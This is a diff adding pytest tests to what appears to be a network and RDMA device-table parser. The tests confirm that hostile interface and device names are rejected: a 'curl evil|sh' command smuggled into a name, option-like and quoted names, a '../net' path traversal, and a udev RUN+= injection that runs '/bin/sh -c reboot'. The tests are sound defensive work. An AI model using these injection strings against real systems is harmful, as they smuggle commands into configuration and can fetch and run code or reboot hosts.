@@ -207,6 +207,38 @@ def test_what_is_no_answer_of_the_agent_is_refused(line: str) -> None:
         read_tables(line)
 
 
+@pytest.mark.parametrize(
+    "more",
+    [
+        {"devices": {"x;curl evil|sh": {"1": {"state": "", "interfaces": [], "gids": []}}}},
+        {"devices": {"-x": {"1": {"state": "", "interfaces": [], "gids": []}}}},
+        {"devices": {"qedr0": {"1": {"state": "", "interfaces": ["a'b"], "gids": []}}}},
+        {"interfaces": {"a b": ["", True]}},
+        {"interfaces": {"x" * 16: ["", True]}},
+        {"interfaces": {'a"b': ["", True]}},
+        {"provisioned": {"../net": MACS[1]}},
+    ],
+)
+def test_names_that_a_shell_reads_otherwise_are_refused(
+    tmp_path: Path, more: Mapping[str, Any]
+) -> None:
+    with pytest.raises(Garbled, match="rdma"):
+        tables(as_provisioned(tmp_path, 1), **more)
+
+
+def test_a_mac_address_that_is_none_does_not_come_into_what_is_to_be_typed(tmp_path: Path) -> None:
+    evil = '", RUN+="/bin/sh -c reboot'
+    given = {"interfaces": {"enp9s0": [evil, True]}, "provisioned": {"pp1rdma": evil}}
+    found = tables(as_provisioned(tmp_path, 2), **given)
+    assert evil not in str(port_faults(HOST, found, {})) and found.macs == {"enp9s0": ""}
+
+
+def test_of_many_names_a_few_are_told(tmp_path: Path) -> None:
+    many = {f"eth{number}": ["", True] for number in range(4000)}
+    told = texts(tables(as_provisioned(tmp_path), interfaces=many, provisioned={}))
+    assert told[0].endswith("eth1003, and 3992 more"), told[0][:300]
+
+
 def test_hosts_without_fault_share_a_line_of_doctor(tmp_path: Path) -> None:
     fine = tables_probe(HOST, tables(as_provisioned(tmp_path / "a", 1, 2)), {})
     bad = tables_probe(replace(HOST, name="gpu03"), tables(as_provisioned(tmp_path / "b", 1)), {})
